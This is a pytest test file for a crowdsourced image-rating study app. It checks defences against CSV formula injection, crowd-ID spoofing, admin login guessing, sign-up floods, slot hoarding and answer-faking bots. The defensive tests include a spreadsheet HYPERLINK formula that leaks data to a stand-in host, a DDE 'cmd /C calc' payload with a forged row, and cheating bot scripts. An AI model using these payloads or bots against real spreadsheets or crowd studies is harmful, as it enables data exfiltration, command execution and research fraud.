"""Trust, round 2 (issue 22): each cheap crowd attack and admin lock-out, performed against a
served app, with the outcome it must have. Every DB test runs on SQLite and PostgreSQL."""

from __future__ import annotations


import pytest
from sqlalchemy import select

from app.store.models import Participant, Study
from tests.test_api import answer, join, next_


def _answer_all(client, token, limit=60) -> dict:
    """Answer every trial `token` is given; returns the final /next body (done or an error)."""
    for _ in range(limit):
        r = next_(client, token)
        if r.status_code != 200 or r.json().get("done"):
            return {"status": r.status_code, **r.json()}
        a = answer(client, token, r.json()["trial"], 3)
        assert a.status_code in (200, 409), a.text
    raise AssertionError("participant never finished")


# ------------------------------------------------------------------ 6: the last answer of an auto-closing study
def test_last_answer_of_auto_closing_study_ends_done_with_code(client, session, study_factory):
    study = study_factory(n_pairs=2, pairs_per_participant=2, ratings_per_pair=1, auto_close=True,
                          completion_code="LAST42")
    slug, study_id = study.slug, study.id
    session.rollback()
    token = join(client, slug)
    end = _answer_all(client, token)
    assert end["status"] == 200 and end["done"] is True, end
    assert end["completion_code"] == "LAST42"
    session.expire_all()
    assert session.scalar(select(Study.state).where(Study.id == study_id)) == "closed"
    session.rollback()
    # The done page shows the code too.
    client.cookies.set("participant", token)
    page = client.get(f"/s/{slug}/done")
    assert page.status_code == 200 and "LAST42" in page.text


# ------------------------------------------------------------------ 5: CSV injection
HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
FORMULA_START = tuple("=+-@\t\r")


def _admin(client, session):
    from app.accounts.admins import ensure_admin
    from tests.test_admin import PASSWORD, USER, login

    ensure_admin(session, USER, PASSWORD)
    session.commit()
    assert login(client).status_code == 303


def _assert_inert(text: str, expect_rows: int | None = None) -> list[list[str]]:
    """Every cell of the CSV `text` is inert in a spreadsheet, and no line break forges a row."""
    import csv
    import io

    # splitlines() breaks at a bare CR too, as a spreadsheet does: a forged row would show here.
    rows = list(csv.reader(io.StringIO(text, newline="")))
    assert rows == list(csv.reader(text.splitlines(keepends=True))) or "\r" not in text
    for row in rows:
        for cell in row:
            if cell[:1] in FORMULA_START:
                try:
                    float(cell)
                except ValueError:
                    raise AssertionError(f"live formula cell {cell!r}") from None
    if expect_rows is not None:
        assert len(rows) == expect_rows, rows
    return rows


def _hostile_pair_set(tmp_path, session):
    import json

    from app.studies.importer import import_pair_set
    from tests.conftest import write_pair_set

    folder = write_pair_set(tmp_path / "hostile", 3, seed=7)
    lines = [json.loads(x) for x in (folder / "manifest.jsonl").read_text().splitlines()]
    lines[0]["prompt"] = '@SUM(1+1)*cmd|" /C calc"!A0\r\nforged,row,here'
    lines[1]["prompt"] = "-2+3"
    (folder / "manifest.jsonl").write_text("\n".join(json.dumps(x) for x in lines) + "\n")
    ps = import_pair_set(session, folder)
    session.commit()
    return ps.id


def test_csv_exports_neutralise_hostile_ids_and_text(client, session, study_factory, tmp_path):
    ps = _hostile_pair_set(tmp_path, session)
    study = study_factory([ps], pairs_per_participant=3, ratings_per_pair=3, completion_code="CODE1")
    slug = study.slug
    session.rollback()
    for i, pid in enumerate([HOSTILE, "+1-555-0100", "@evil"]):
        token = join(client, slug, PROLIFIC_PID=pid, SESSION_ID=f"-{i}=cmd", STUDY_ID="x")
        assert _answer_all(client, token)["done"] is True
    _admin(client, session)
    files = {
        "decisions": client.get(f"/admin/studies/{slug}/participants/decisions.csv"),
        "codes": client.get(f"/admin/studies/{slug}/participants/completion-codes.csv"),
        "ratings": client.get(f"/admin/studies/{slug}/export.csv"),
    }
    for name, r in files.items():
        assert r.status_code == 200, (name, r.text)
    decisions = _assert_inert(files["decisions"].text, 4)
    assert decisions[1][0] == "'" + HOSTILE.lower() or decisions[1][0] == "'" + HOSTILE
    _assert_inert(files["codes"].text, 4)
    ratings = _assert_inert(files["ratings"].text, 1 + 9)
    header = ratings[0]
    scores = [int(r[header.index("score")]) for r in ratings[1:]]
    assert all(-2 <= s <= 2 for s in scores)  # numbers stay numbers
    prompts = {r[header.index("prompt")] for r in ratings[1:]}
    assert "'-2+3" in prompts
    # The report zip and `sfgeval export` write the same neutralised ratings.
    import io
    import zipfile

    z = client.get(f"/admin/studies/{slug}/report.zip")
    if z.status_code == 200:
        with zipfile.ZipFile(io.BytesIO(z.content)) as zf:
            for name in zf.namelist():
                if name.endswith(".csv"):
                    _assert_inert(zf.read(name).decode("utf-8"))
    from click.testing import CliRunner

    from app import cli

    out = CliRunner().invoke(cli.main, ["export", slug, "--database-url", str(client.app.state.settings.database_url)])
    assert out.exit_code == 0, out.output
    _assert_inert(out.output, 1 + 9)


def test_csv_helper_keeps_numbers_and_quotes_line_breaks():
    from app.store.csvsafe import csv_text

    text = csv_text(["a", "b", "c"], [[-2, "-2", "x\ry"], [1.5, "=1+1", " @x"], [None, True, "\tz"]])
    assert text.split("\n")[1].startswith("-2,'-2,\"x\ry\"")
    _assert_inert(text, 4)


# ------------------------------------------------------------------ 3: one person, one crowd id
PID = "5f1a2b3c4d5e6f708192a3b4"


@pytest.mark.parametrize("variant,status", [
    (PID.upper(), 409),                                   # case
    (f"  {PID}\u00a0", 409),                              # surrounding (and no-break) spaces
    ("".join(chr(ord(c) + 0xFEE0) for c in PID), 409),    # full-width digits and letters
    (f"{PID}\r", 422), (f"\t{PID}", 422),                 # CR, TAB
    (f"\u200f{PID}", 422), (f"{PID}\u202e", 422),         # right-to-left mark, override
    (f"{PID[:12]}\u200b{PID[12:]}", 422),                 # zero-width space
])
def test_crowd_id_variants_are_the_same_person(client, session, study_factory, variant, status):
    study = study_factory(n_pairs=4, pairs_per_participant=2)
    slug = study.slug
    session.rollback()
    first = client.post(f"/api/studies/{slug}/participants", json={"external_ids": {"PROLIFIC_PID": PID}})
    assert first.status_code == 201
    again = client.post(f"/api/studies/{slug}/participants", json={"external_ids": {"PROLIFIC_PID": variant}})
    assert again.status_code == status, again.text
    # The HTML form says the same (never a second participant).
    r = client.post(f"/s/{slug}/start", data={"consent": "yes", "PROLIFIC_PID": variant}, follow_redirects=False)
    assert r.status_code == status, r.text
    session.expire_all()
    stored = session.scalars(select(Participant.external_ids).where(Participant.study_id == study.id)).all()
    session.rollback()
    assert stored == [{"PROLIFIC_PID": PID}]


def test_mturk_ids_are_upper_case_and_the_same_worker(client, session, study_factory):
    study = study_factory(n_pairs=4, pairs_per_participant=2)
    slug = study.slug
    session.rollback()
    a = client.post(f"/api/studies/{slug}/participants",
                    json={"external_ids": {"workerId": " a1b2c3d4e5 ", "assignmentId": "x1"}})
    assert a.status_code == 201
    b = client.post(f"/api/studies/{slug}/participants",
                    json={"external_ids": {"workerId": "Ａ1B2C3D4E5", "assignmentId": "X1"}})
    assert b.status_code == 200 and b.json() == a.json()  # resumed: same worker, same assignment
    session.expire_all()
    ids = session.scalars(select(Participant.external_ids).where(Participant.study_id == study.id)).all()
    session.rollback()
    assert ids == [{"workerId": "A1B2C3D4E5", "assignmentId": "X1"}]


# ------------------------------------------------------------------ 7: no admin lock-out, atomic throttle
@pytest.fixture
def proxied_app(settings):
    """The app behind a trusted reverse proxy (the test client's own address): tests pick each
    request's client address with X-Forwarded-For, as the proxy would."""
    from app.main import create_app

    application = create_app(settings.model_copy(update={"trusted_proxies": "testclient,127.0.0.1",
                                                        "signup_rate_per_minute": 30.0, "signup_burst": 60}))
    yield application
    application.state.engine.dispose()


@pytest.fixture
def proxied_client(proxied_app):
    from fastapi.testclient import TestClient

    with TestClient(proxied_app) as c:
        yield c


def _login_from(client, address, user, password):
    from tests.test_admin import csrf_of

    client.headers["X-Forwarded-For"] = address
    csrf = csrf_of(client.get("/admin/login").text)
    return client.post("/admin/login", data={"username": user, "password": password, "csrf_token": csrf},
                       follow_redirects=False)


def test_guessing_from_one_address_does_not_lock_the_admin_out(proxied_client, proxied_app):
    from app.accounts.admins import ensure_admin
    from tests.test_admin import PASSWORD, USER

    with proxied_app.state.sessionmaker() as s:
        ensure_admin(s, USER, PASSWORD)
        s.commit()
    attacker = [_login_from(proxied_client, "203.0.113.9", USER, f"guess-{i}").status_code for i in range(12)]
    # Five free guesses, then 1 s, 2 s, 4 s ... apart (a guess that waited its delay is checked).
    assert attacker[:5] == [401] * 5 and attacker[5:].count(429) >= 5 and attacker.count(401) <= 7, attacker
    proxied_client.cookies.clear()
    r = _login_from(proxied_client, "198.51.100.7", USER, PASSWORD)  # the admin, elsewhere, at once
    assert r.status_code == 303, r.text


def test_throttle_check_and_count_is_atomic_under_parallel_guesses(app, live_server):
    import concurrent.futures

    import httpx

    from app.accounts.admins import ensure_admin
    from app.accounts.login_throttle import FREE_PER_PAIR
    from tests.test_admin import PASSWORD, USER, csrf_of

    with app.state.sessionmaker() as s:
        ensure_admin(s, USER, PASSWORD)
        s.commit()

    import threading

    barrier = threading.Barrier(16)

    def guess(i):  # each fetches its form, then all 16 post at the same moment
        with httpx.Client(base_url=live_server, timeout=60) as c:
            csrf = csrf_of(c.get("/admin/login").text)
            barrier.wait()
            return c.post("/admin/login", data={"username": USER, "password": f"wrong-{i}", "csrf_token": csrf}).status_code

    with concurrent.futures.ThreadPoolExecutor(16) as pool:
        statuses = list(pool.map(guess, range(16)))
    assert statuses.count(401) <= FREE_PER_PAIR and statuses.count(401) + statuses.count(429) == 16, statuses


# ------------------------------------------------------------------ 2: sign-up flooding
def test_sign_up_flood_from_one_address_is_limited_but_a_launch_is_not(proxied_client, proxied_app, study_factory,
                                                                        session):
    study = study_factory(n_pairs=4, pairs_per_participant=2)
    slug = study.slug
    session.rollback()
    settings = proxied_app.state.settings

    def sign_up(address):
        return proxied_client.post(f"/api/studies/{slug}/participants", headers={"X-Forwarded-For": address})

    # A 300-person launch from distinct addresses, all at once: nobody waits.
    launch = [sign_up(f"10.{i // 250}.{i % 250}.1").status_code for i in range(300)]
    assert launch == [201] * 300
    # One address scripting sign-ups: the burst goes through, then 429 with Retry-After.
    flood = [sign_up("203.0.113.77") for _ in range(settings.signup_burst + 40)]
    codes = [r.status_code for r in flood]
    assert codes[:settings.signup_burst] == [201] * settings.signup_burst
    assert codes.count(429) >= 35
    limited = next(r for r in flood if r.status_code == 429)
    assert int(limited.headers["Retry-After"]) >= 1 and limited.json()["reason"] == "rate_limited"
    # The consent form is limited by the same budget, and other addresses are untouched.
    page = proxied_client.post(f"/s/{slug}/start", data={"consent": "yes"}, headers={"X-Forwarded-For": "203.0.113.77"},
                               follow_redirects=False)
    assert page.status_code == 429 and "Retry-After" in page.headers
    assert sign_up("198.51.100.1").status_code == 201


def test_sign_up_limiter_refills():
    from app.web.clients import SignupLimiter

    now = [0.0]
    limiter = SignupLimiter(per_minute=30, burst=3, clock=lambda: now[0])
    assert [limiter.take("a") for _ in range(4)] == [0, 0, 0, 2]
    now[0] += 2.0
    assert limiter.take("a") == 0 and limiter.take("b") == 0


# ------------------------------------------------------------------ 9: smaller holes
@pytest.mark.parametrize("field,value", [("sd_participant", "1e308"), ("half_width", "1e-300"),
                                         ("win_rate", "nan"), ("sd_prompt", "inf"), ("price_per_rating", "1e308")])
def test_plan_page_refuses_absurd_numbers(client, session, study_factory, field, value):
    from tests.test_admin import token

    study = study_factory(n_pairs=4)
    slug = study.slug
    session.rollback()
    _admin(client, session)
    data = {"csrf_token": token(client, f"/admin/studies/{slug}/plan"), "sims": "20", field: value}
    r = client.post(f"/admin/studies/{slug}/plan", data=data)
    assert r.status_code == 422, r.text[:300]
    assert field.replace("_", " ") in r.text


@pytest.mark.parametrize("args", [["--sd-participant", "1e308"], ["--half-width", "1e-300"], ["--win-rate", "nan"],
                                  ["--sd-pair", "1e308"]])
def test_plan_command_refuses_absurd_numbers(args):
    from click.testing import CliRunner

    from app import cli

    out = CliRunner().invoke(cli.main, ["plan", "--sims", "20", *args])
    assert out.exit_code == 1 and isinstance(out.exception, SystemExit) and "Error:" in out.output, out.output


def test_zip_with_corrupt_member_data_is_a_4xx(client, session, tmp_path):
    import io
    import zipfile

    from tests.conftest import write_pair_set
    from tests.test_admin import token

    _admin(client, session)
    folder = write_pair_set(tmp_path / "z", 2, seed=3)
    for method in (zipfile.ZIP_DEFLATED, zipfile.ZIP_STORED):
        buf = io.BytesIO()
        with zipfile.ZipFile(buf, "w", method) as zf:
            for p in sorted(folder.iterdir()):
                zf.write(p, p.name)
        raw = bytearray(buf.getvalue())
        with zipfile.ZipFile(io.BytesIO(bytes(raw))) as zf:
            info = next(i for i in zf.infolist() if i.filename.endswith(".png"))
        start = info.header_offset + 30 + len(info.filename.encode()) + len(info.extra)
        for k in range(start + 20, start + 60):
            raw[k] ^= 0xA5  # the member's data is damaged, its headers are intact
        r = client.post("/admin/pair-sets/import", params={"csrf_token": token(client)},
                        files={"archive": ("damaged.zip", bytes(raw), "application/zip")})
        assert r.status_code == 422, r.text[:300]


def test_a_draft_study_shows_nothing(client, session, study_factory):
    study = study_factory(n_pairs=2, state="draft", title="Secret hypothesis: SFG beats CFG")
    slug = study.slug
    session.rollback()
    for r in (client.get(f"/s/{slug}"), client.get(f"/s/{slug}/run"), client.get(f"/s/{slug}/done"),
              client.get(f"/s/{slug}/full"), client.post(f"/api/studies/{slug}/participants")):
        assert r.status_code == 404 and "Secret" not in r.text and "SFG" not in r.text, r.text


def test_pages_with_tokens_codes_or_statistics_are_not_cached(client, session, study_factory):
    study = study_factory(n_pairs=2, pairs_per_participant=1, completion_code="NOCACHE1")
    slug = study.slug
    session.rollback()
    start = client.post(f"/s/{slug}/start", data={"consent": "yes"}, follow_redirects=False)
    assert start.status_code == 303
    run = client.get(f"/s/{slug}/run")
    assert run.status_code == 200 and run.headers["Cache-Control"] == "no-store"
    token = client.cookies.get("participant")
    assert _answer_all(client, token)["done"] is True
    done = client.get(f"/s/{slug}/done")
    assert "NOCACHE1" in done.text and done.headers["Cache-Control"] == "no-store"
    _admin(client, session)
    for path in (f"/admin/studies/{slug}/statistics", f"/admin/studies/{slug}", "/admin/studies"):
        r = client.get(path)
        assert r.status_code in (200, 422) and r.headers.get("Cache-Control") == "no-store", path


# ------------------------------------------------------------------ 1: slot hoarding by cheap sign-ups
def _reserved_holds(session, study_id, participant_ids=None) -> int:
    """Live reserved main holds (what keeps a slot from others), of these participants or all."""
    from app.store.models import Trial, utcnow

    session.expire_all()
    q = select(Trial.id).where(Trial.study_id == study_id, Trial.kind == "main", Trial.state == "assigned",
                               Trial.reserved.is_(True), Trial.expires_at > utcnow())
    if participant_ids is not None:
        q = q.where(Trial.participant_id.in_(participant_ids))
    n = len(session.scalars(q).all())
    session.rollback()
    return n


def _hoard(client, slug, k):
    """K scripted sign-ups: each answers the practice trial only, loads the next trial, goes idle."""
    tokens = []
    for _ in range(k):
        token = join(client, slug)
        t = next_(client, token).json()
        assert t["practice"] is True
        assert answer(client, token, t["trial"], 3).status_code == 200
        assert next_(client, token).status_code == 200  # now looking at a main trial, and idle
        tokens.append(token)
    return tokens


def _ids(session, tokens):
    ids = session.scalars(select(Participant.id).where(Participant.token.in_(tokens))).all()
    session.rollback()
    return ids


def test_idle_sign_ups_block_at_most_one_slot_each_and_a_real_participant_finishes(client, session, study_factory):
    study = study_factory(n_pairs=15, pairs_per_participant=3, ratings_per_pair=2, practice_trials=1,
                          completion_code="REAL1", hold_minutes=0.03)
    slug, study_id = study.slug, study.id
    session.rollback()
    k = 16
    hoarders = _hoard(client, slug, k)
    blocked = _reserved_holds(session, study_id, _ids(session, hoarders))
    assert blocked <= k  # one slot each at most: the trial on screen, never the preloaded one
    # A real participant arriving after them: answered (0) + K (16) < capacity (30): they finish.
    assert client.get(f"/s/{slug}").status_code == 200  # the consent page does not say "full"
    real = join(client, slug)
    end = _answer_all(client, real)
    assert end["done"] is True and end["completion_code"] == "REAL1" and not end["full"], end
    # The idle hold is freed after the study's hold time (shown on the admin study page) ...
    import time

    time.sleep(0.03 * 60 + 0.3)
    assert _reserved_holds(session, study_id, _ids(session, hoarders)) == 0
    # ... and the same sign-ups coming back take nothing from others: their holds are provisional
    # until they answer again.
    for token in hoarders:
        assert next_(client, token).status_code == 200
    assert _reserved_holds(session, study_id, _ids(session, hoarders)) == 0
    _admin(client, session)
    page = client.get(f"/admin/studies/{slug}")
    assert "0.03 min" in page.text and 'id="idle-hold"' in page.text


def test_hoarders_cannot_fill_a_study_real_participants_fill_it(client, session, study_factory):
    # Capacity 12; 16 idle sign-ups that each answered their practice trial.
    study = study_factory(n_pairs=6, pairs_per_participant=2, ratings_per_pair=2, practice_trials=1,
                          completion_code="REAL2")
    slug, study_id = study.slug, study.id
    session.rollback()
    _hoard(client, slug, 16)
    held = _reserved_holds(session, study_id)
    assert held <= 6  # never a whole study: the last open slot of each pair is never held
    # Real participants keep coming while answered + held < capacity; each who gets work finishes
    # with the code or ends "study full" without it, never with the code after fewer trials.
    finished_with_code = real_answers = 0
    for _ in range(12):
        token = join(client, slug)
        end = _answer_all(client, token)
        if end["status"] == 409:
            break
        assert end["done"] is True
        assert ("completion_code" in end) != end["full"], end
        finished_with_code += "completion_code" in end
        real_answers += end["progress"]["done"]
    # Every slot the hoarders could not hold went to real participants.
    assert real_answers == 12 - held and finished_with_code >= 2


def test_a_newcomers_practice_never_takes_the_last_open_pair(client, session, study_factory):
    # A practice pair is never compared again by that participant. Five of six pairs are full;
    # every newcomer must practise on a full pair and get the open one as their main trial, or the
    # study's last slot goes only to a newcomer whose practice happened to fall elsewhere (1 in 6).
    from app.store.models import Trial

    study = study_factory(n_pairs=6, pairs_per_participant=1, ratings_per_pair=1, practice_trials=1)
    slug, study_id = study.slug, study.id
    session.rollback()
    for _ in range(5):
        assert _answer_all(client, join(client, slug))["done"] is True
    answered = set(session.scalars(select(Trial.pair_id).where(
        Trial.study_id == study_id, Trial.kind == "main", Trial.state == "answered")).all())
    session.rollback()
    assert len(answered) == 5
    newcomers = [join(client, slug) for _ in range(12)]
    for token in newcomers:
        assert next_(client, token).json()["practice"] is True
    rows = session.execute(select(Trial.kind, Trial.pair_id).join(Participant).where(
        Participant.token.in_(newcomers))).all()
    session.rollback()
    assert sorted(k for k, _ in rows) == ["main"] * 12 + ["practice"] * 12
    assert all(p in answered for k, p in rows if k == "practice")
    assert all(p not in answered for k, p in rows if k == "main")
    # With more open pairs than main trials to come, practice is drawn from every pair as before.
    wide = study_factory(n_pairs=6, pairs_per_participant=1, ratings_per_pair=1, practice_trials=1)
    slug = wide.slug
    session.rollback()
    tokens = [join(client, slug) for _ in range(30)]
    for token in tokens:
        next_(client, token)
    practised = set(session.scalars(select(Trial.pair_id).join(Participant).where(
        Participant.token.in_(tokens), Trial.kind == "practice")).all())
    session.rollback()
    assert len(practised) >= 5


def _fill_under(client, session, study_factory, **config):
    """A takes pair 1 and preloads pair 2; B answers pairs 2 and 3 meanwhile: the study is full
    before A could answer their second and third trial."""
    study = study_factory(n_pairs=3, pairs_per_participant=3, ratings_per_pair=1, completion_code="PART1", **config)
    slug = study.slug
    session.rollback()
    a = join(client, slug, PROLIFIC_PID="a" * 24)
    first = next_(client, a).json()
    assert answer(client, a, first["trial"], 3).status_code == 200
    b = join(client, slug, PROLIFIC_PID="b" * 24)
    _answer_all(client, b)
    return slug, a


def test_no_completion_code_before_every_promised_trial(client, session, study_factory):
    slug, a = _fill_under(client, session, study_factory)
    end = _answer_all(client, a)
    assert end["done"] is True and end["full"] is True and "completion_code" not in end, end
    client.cookies.set("participant", a)
    page = client.get(f"/s/{slug}/done")
    assert page.status_code == 200 and "PART1" not in page.text and "study-full-end" in page.text
    _admin(client, session)
    codes = client.get(f"/admin/studies/{slug}/participants/completion-codes.csv").text
    assert "PART1" not in codes and codes.count("\n") == 1  # nobody was shown the code
    rows = client.get(f"/admin/studies/{slug}/participants.json").json()["participants"]
    assert {r["PROLIFIC_PID"]: r["ending"] for r in rows} == {"a" * 24: "full", "b" * 24: "full"}


def test_researcher_may_give_partial_participants_the_code(client, session, study_factory):
    slug, a = _fill_under(client, session, study_factory, code_when_full=True)
    end = _answer_all(client, a)
    assert end["done"] is True and end["full"] is True and end["completion_code"] == "PART1", end
    _admin(client, session)
    codes = client.get(f"/admin/studies/{slug}/participants/completion-codes.csv").text
    assert codes.count("PART1") == 2


# ------------------------------------------------------------------ 4: gold and repeats from what the browser receives
class CueBot:
    """A script that answers from everything a browser receives, never from the pixels: an
    image URL or image bytes it has been shown before, byte sizes, response headers and fetch
    times. On a trial whose two images it recognises (a repeat) it repeats its earlier answer
    (sides swapped); on a trial with exactly one familiar image it takes that one as the intact
    image of a gold check; otherwise it takes the larger, then the faster image, and answers every
    other trial at random."""

    def __init__(self, client, token, seed):
        import random

        self.client, self.token, self.rng = client, token, random.Random(seed)
        self.seen_urls: set[str] = set()
        self.seen_hashes: set[str] = set()
        self.answers: dict[frozenset, tuple[str, int]] = {}  # images -> (left url/hash, choice)
        self.guesses: dict[str, str] = {}  # trial id -> side it took as intact ("left"/"right")
        self.cues: dict[str, str] = {}  # trial id -> what it went by

    def _fetch(self, url):
        import hashlib
        import time

        t0 = time.perf_counter()
        r = self.client.get(url)
        return hashlib.sha256(r.content).hexdigest(), len(r.content), time.perf_counter() - t0, r.headers

    def run(self):
        while True:
            body = next_(self.client, self.token).json()
            if body.get("done") or "trial" not in body:
                return body
            left, right = self._fetch(body["left"]), self._fetch(body["right"])
            fam = [body["left"] in self.seen_urls or left[0] in self.seen_hashes,
                   body["right"] in self.seen_urls or right[0] in self.seen_hashes]
            key = frozenset((left[0], right[0]))
            if all(fam) and key in self.answers:  # a repeat: the same answer, sides swapped or not
                first_left, choice = self.answers[key]
                choice = choice if first_left == left[0] else 6 - choice
                side = "left" if choice < 3 else "right"
            else:
                if fam[0] != fam[1]:
                    side, self.cue = ("left" if fam[0] else "right"), "familiar"
                elif left[1] != right[1]:
                    side, self.cue = ("left" if left[1] > right[1] else "right"), "size"
                elif abs(left[2] - right[2]) > 0.002 or dict(left[3]) != dict(right[3]):
                    side, self.cue = ("left" if left[2] < right[2] else "right"), "timing"
                else:
                    side, self.cue = self.rng.choice(["left", "right"]), "none"
                choice = self.rng.choice([1, 2]) if side == "left" else self.rng.choice([4, 5])
                if not body["practice"] and not any(fam):
                    choice = self.rng.choice([1, 2, 3, 4, 5])  # real trials: at random
                    side = "left" if choice < 3 else "right"
            self.guesses[body["trial"]] = side
            self.cues[body["trial"]] = getattr(self, "cue", "repeat")
            self.answers[key] = (left[0], choice)
            self.seen_urls.update((body["left"], body["right"]))
            self.seen_hashes.update((left[0], right[0]))
            r = answer(self.client, self.token, body["trial"], choice)
            assert r.status_code in (200, 409), r.text


def _gold_outcomes(session, tokens, bots):
    """(guessed the intact side, trial) for every gold trial the bots answered."""
    from app.assignment import trial_images
    from app.store.models import Pair, Trial

    out = []
    for token, bot in zip(tokens, bots):
        trials = session.scalars(select(Trial).join(Participant).where(
            Participant.token == token, Trial.kind == "gold", Trial.state == "answered")).all()
        for t in trials:
            left, _right = trial_images(session, t)
            pair = session.get(Pair, t.pair_id)
            intact = pair.baseline_image_id if pair.gold_degraded_arm == "baseline" else pair.treatment_image_id
            out.append(bot.guesses[t.public_id] == ("left" if left.id == intact else "right"))
    session.rollback()
    return out


def test_gold_is_not_inferable_from_what_the_browser_receives(client, session, study_factory, tmp_path):
    study = study_factory([_unique_pair_set(tmp_path, session, 12)], pairs_per_participant=3, gold_rate=1.0,
                          ratings_per_pair=1000)
    slug = study.slug
    session.rollback()
    tokens, bots = [], []
    outcomes: list[bool] = []
    i = 0
    while len(outcomes) < 200:
        for _ in range(20):
            token = join(client, slug)
            bot = CueBot(client, token, seed=i)
            i += 1
            assert bot.run().get("done") is True
            tokens.append(token)
            bots.append(bot)
        outcomes = _gold_outcomes(session, tokens, bots)
    accuracy = sum(outcomes) / len(outcomes)
    assert accuracy <= 0.60, accuracy


def _unique_pair_set(tmp_path, session, n):
    """A synthetic pair set whose images are all different (write_pair_set's smooth images repeat
    every six pairs, which would hand a script a familiarity cue no real pair set has)."""
    import hashlib
    import json

    import numpy as np
    from PIL import Image as PILImage

    from app.studies.importer import import_pair_set
    from tests.conftest import write_pair_set

    folder = write_pair_set(tmp_path / "unique", n, seed=11)
    records = [json.loads(x) for x in (folder / "manifest.jsonl").read_text().splitlines()]
    for i, rec in enumerate(records):
        path = folder / rec["baseline"]["file"]
        arr = np.asarray(PILImage.open(path).convert("RGB")).copy()
        arr[i // 64, i % 64] = (i * 37 % 256, 255 - i % 256, 128)  # one pixel of its own
        PILImage.fromarray(arr).save(path, format="PNG")
        rec["baseline"]["sha256"] = hashlib.sha256(path.read_bytes()).hexdigest()
    (folder / "manifest.jsonl").write_text("\n".join(json.dumps(r) for r in records) + "\n")
    ps = import_pair_set(session, folder)
    session.commit()
    return ps.id


def test_a_bot_random_on_real_trials_is_never_approved(client, session, study_factory, tmp_path):
    # The default rules but the speed rule: a script can always wait (tests/test_open_crowd.py).
    rules = {"fail_gold": True, "straight_lining": True, "min_consistency": 0.5, "max_side_bias": 0.9}
    study = study_factory([_unique_pair_set(tmp_path, session, 30)], pairs_per_participant=10, gold_rate=0.8,
                          repeats=2, ratings_per_pair=100, min_response_ms=0, exclusion_rules=rules)
    slug = study.slug
    session.rollback()
    for seed in range(10):
        token = join(client, slug, PROLIFIC_PID=f"{seed:024x}")
        assert CueBot(client, token, seed).run().get("done") is True
    _admin(client, session)
    rows = client.get(f"/admin/studies/{slug}/participants.json").json()["participants"]
    assert len(rows) == 10
    assert [r["suggested"] for r in rows if r["suggested"] == "APPROVE"] == [], [
        {k: r[k] for k in ("n_ratings", "gold_n", "gold_pass_rate", "repeats_n", "consistency", "fast_share")}
        for r in rows if r["suggested"] == "APPROVE"]


class PixelBot:
    """The strongest cheap cheater: it passes every gold check (as a script measuring sharpness
    would) and every repeat (as one remembering pixels would), and answers every real pair at
    random. Here it reads the truth from the database instead of computing it from pixels."""

    def __init__(self, client, session, token, seed, honest_latent=None):
        import random

        self.client, self.session, self.token = client, session, token
        self.rng, self.latent = random.Random(seed), honest_latent

    def _choice(self, trial) -> int:
        from app.assignment import trial_images
        from app.store.models import Pair, Rating

        treatment_left = trial.treatment_side == "left"
        if trial.kind == "gold":
            pair = self.session.get(Pair, trial.pair_id)
            intact = pair.baseline_image_id if pair.gold_degraded_arm == "baseline" else pair.treatment_image_id
            left, _ = trial_images(self.session, trial)
            return 1 if left.id == intact else 5
        if trial.kind == "repeat" and self.latent is None:  # the same preference as the first time
            first = self.session.scalars(select(Rating.score).where(Rating.trial_id == trial.repeat_of_trial_id)).first()
            score = first
        elif self.latent is None:
            return self.rng.randint(1, 5)  # a real pair: at random
        else:  # an honest person: the pair's visible preference, with noise
            score = max(-2, min(2, round(self.latent[trial.pair_id] + self.rng.gauss(0, 1))))
        return 3 - score if treatment_left else 3 + score

    def run(self):
        from app.store.models import Trial

        while True:
            body = next_(self.client, self.token).json()
            if body.get("done") or "trial" not in body:
                return body
            trial = self.session.scalars(select(Trial).where(Trial.public_id == body["trial"])).one()
            choice = 3 if body["practice"] else self._choice(trial)
            self.session.rollback()
            r = answer(self.client, self.token, body["trial"], choice)
            assert r.status_code == 200, r.text


def test_a_bot_passing_gold_and_repeats_but_random_on_real_pairs_is_never_approved(client, session, study_factory,
                                                                                      tmp_path):
    import csv
    import io
    import random

    from app.store.models import Pair

    rules = {"fail_gold": True, "straight_lining": True, "min_consistency": 0.5, "max_side_bias": 0.9}
    # 60 real pairs each. The bots are a third of the crowd and blur its answers, so with 20 real
    # pairs a random answerer still reached the evidence about 1.5% of the time (one of 10 bots in
    # one CI run); with 40, 0.38% (one of 10 bots in a later CI run: 20 bots a run, a 7% flake);
    # with 60, 0.07%, people 100% (`benchmarks/agreement_bots.py`, 10,000 bots each).
    study = study_factory([_unique_pair_set(tmp_path, session, 60)], pairs_per_participant=60, gold_rate=0.2,
                          repeats=2, ratings_per_pair=100, min_response_ms=0, exclusion_rules=rules)
    slug = study.slug
    rng = random.Random(7)  # each pair shows one method visibly better, as real pairs often do
    latent = {p.id: rng.choice([-1.3, 1.3]) for p in session.scalars(select(Pair).where(
        Pair.pair_set_id == study.comparisons[0].pair_set_id))}
    session.rollback()
    bots, honest = set(), set()
    for i in range(30):
        pid = f"{i:024x}"
        token = join(client, slug, PROLIFIC_PID=pid)
        is_bot = i % 3 == 2
        (bots if is_bot else honest).add(pid)
        assert PixelBot(client, session, token, seed=i, honest_latent=None if is_bot else latent).run()["done"]
    _admin(client, session)
    rows = {r["PROLIFIC_PID"]: r for r in
            client.get(f"/admin/studies/{slug}/participants.json").json()["participants"]}
    for pid in bots:  # the checks it can pass, it passes ...
        assert rows[pid]["gold_pass_rate"] == 1 and rows[pid]["consistency"] == 1 and not rows[pid]["excluded"]
    # ... and still none is suggested APPROVE: their real answers do not follow the images.
    assert {rows[pid]["suggested"] for pid in bots} == {"REVIEW"}, {pid: rows[pid] for pid in bots}
    assert all("do not follow the other raters" in rows[pid]["reason"] for pid in bots)
    approved = [pid for pid in honest if rows[pid]["suggested"] == "APPROVE"]
    assert len(approved) >= 16, [(rows[p]["agreement"], rows[p]["agreement_evidence"]) for p in honest]
    page = client.get(f"/admin/studies/{slug}/participants").text
    review = sum(r["suggested"] == "REVIEW" for r in rows.values())
    assert f"{review} participant(s) need your decision" in page
    decisions = list(csv.DictReader(io.StringIO(client.get(f"/admin/studies/{slug}/participants/decisions.csv").text)))
    assert {d["decision"] for d in decisions} <= {"APPROVE", "REJECT"}
    assert not bots & {d["participant_id"] for d in decisions}
